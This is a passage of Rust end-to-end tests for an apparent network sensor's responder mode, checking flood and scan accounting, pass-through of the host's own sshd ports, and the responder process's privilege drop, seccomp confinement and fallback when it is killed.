    // The flood's 600: 200 over the 400 new per minute (refused_rate), of the 400 admitted
    // by rate 16 held at once and 384 refused for the source (and 8 from the held set).
    assert_eq!(counter(&records, "respond_refused_rate"), 200);
    assert_eq!(counter(&records, "respond_refused_source"), 8 + 384);
    let held: Vec<&Value> = records
        .iter()
        .filter(|r| r["type"] == "session" && r["src_ip"] == SRC_MIRAI)
        .collect();
    assert_eq!(held.len(), 16, "{held:#?}");
    assert!(
        held.iter()
            .all(|s| s["end"] == "silent" || s["end"] == "closed"),
        "{held:#?}"
    );
    // nmap's sessions are all recorded, none cut, none lost.
    let nmap_sessions = records
        .iter()
        .filter(|r| r["type"] == "session" && r["src_ip"] == SRC_NMAP)
        .count() as u64;
    assert!(nmap_sessions >= 12, "{nmap_sessions}");
    assert_eq!(counter(&records, "respond_records_lost"), 0);
    assert_eq!(counter(&records, "respond_refused_busy"), 0);
    assert_eq!(
        counter(&records, "respond_sessions"),
        nmap_sessions + 16 + 16,
        "every admitted connection is one session record"
    );
}

#[test]
fn pass_through_ports_keep_the_hosts_own_sshd_and_the_responder_is_unprivileged() {
    if privileged_or_skip().is_none() {
        return;
    }
    let Some(sshd) = ["/usr/sbin/sshd"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
    else {
        panic!("sshd not installed (scripts/setup.sh installs openssh-server)");
    };
    let mut lab = Lab::new(&e2e_dir("respond-sshd")).expect("build the lab");
    // The host's own sshd, on 22 and 2200, with its own host key; started before the agent, so
    // the agent's default pass-through list (22 and every port listening at start) names both.
    let key = lab.dir.join("host_ed25519");
    let ok = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(&key)
        .status()
        .expect("ssh-keygen")
        .success();
    assert!(ok);
    std::fs::create_dir_all("/run/sshd").expect("sshd's privilege separation directory");
    let mut daemon = Command::new("ip")
        .args([
            "netns",
            "exec",
            &lab.sensor_ns,
            sshd,
            "-D",
            "-e",
            "-f",
            "/dev/null",
            "-p",
            "22",
            "-p",
            "2200",
            "-h",
        ])
        .arg(&key)
        .args(["-o", "PidFile=none"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(lab.dir.join("sshd.log")).unwrap())
        .spawn()
        .expect("start sshd");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !std::fs::read_to_string(lab.dir.join("sshd.log"))
        .unwrap_or_default()
        .contains("listening on")
    {
        assert!(std::time::Instant::now() < deadline, "sshd did not start");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    // Responder mode from the sensor's own configuration file: its [respond] table.
    lab.start_sensor(&format!("[respond]\naddresses = [\"{SENSOR_V4}\"]\n"), 1.0)
        .expect("start the responder sensor");
    let host_key = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    let host_key = host_key.split_whitespace().nth(1).unwrap().to_string();
    let scan = |port: &str| {
        let out = client(
            &lab,
            15,
            &[
                "ssh-keyscan",
                "-T",
                "5",
                "-t",
                "ed25519",
                "-p",
                port,
                SENSOR_V4,
            ],
        );
        out.lines()
            .filter(|l| !l.starts_with('#'))
            .find_map(|l| l.split_whitespace().nth(2).map(str::to_string))
            .unwrap_or_else(|| panic!("no key from port {port}: {out}"))
    };
    assert_eq!(scan("22"), host_key, "port 22 is the host's sshd");
    assert_eq!(
        scan("2200"),
        host_key,
        "a port listening at start is the host's"
    );
    let responder_key = scan("2222");
    assert_ne!(responder_key, host_key, "any other port is the responder");

    // The sessions are served by a child of the agent that is nobody, holds no capability,
    // and runs with no_new_privs under a seccomp filter (which refuses socket and connect).
    let child = responder_process(&lab);
    let field = |k: &str| proc_status(child, k).unwrap_or_default();
    assert_eq!(field("Uid"), "65534 65534 65534 65534");
    assert_eq!(field("CapEff"), "0000000000000000");
    assert_eq!(field("CapPrm"), "0000000000000000");
    assert_eq!(field("NoNewPrivs"), "1");
    assert_eq!(field("Seccomp"), "2");
    // …and holds none of the agent's BPF objects (programs, maps, links).
    for fd in std::fs::read_dir(format!("/proc/{child}/fd"))
        .unwrap()
        .flatten()
    {
        let target = std::fs::read_link(fd.path()).unwrap_or_default();
        assert!(
            !target.to_string_lossy().contains("bpf"),
            "fd {:?} → {target:?}",
            fd.file_name()
        );
    }
    // If it dies, the agent empties the socket map: connections fall back to the host (RST).
    let killed = Command::new("kill")
        .args(["-KILL", &child.to_string()])
        .status()
        .is_ok_and(|s| s.success());
    assert!(killed);
    std::thread::sleep(std::time::Duration::from_millis(800));
    let (_, code) = curl(
        &lab,
        SRC_SERVER,
        &format!("http://{SENSOR_V4}:8080/"),
        "after/1",
    );
    assert_eq!(code, 7, "refused by the host once the responder is gone");
    assert_eq!(scan("22"), host_key, "the host's sshd is untouched");
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let records = lab.stop_sensor().expect("stop sensor");
    daemon.kill().ok();
    daemon.wait().ok();
    assert!(counter(&records, "respond_pass_port") >= 2);
    assert!(
        counter(&records, "respond_no_socket") >= 1,
        "the connection after the child died"
    );
    let log = std::fs::read_to_string(lab.dir.join("sensor.log")).unwrap();
    assert!(log.contains("the responder process ended"), "{log}");
    let ssh: Vec<&Value> = records.iter().filter(|r| r["type"] == "session").collect();
    assert!(
        !ssh.is_empty() && ssh.iter().all(|s| s["dst_port"] == 2222),
        "{ssh:#?}"
    );
}
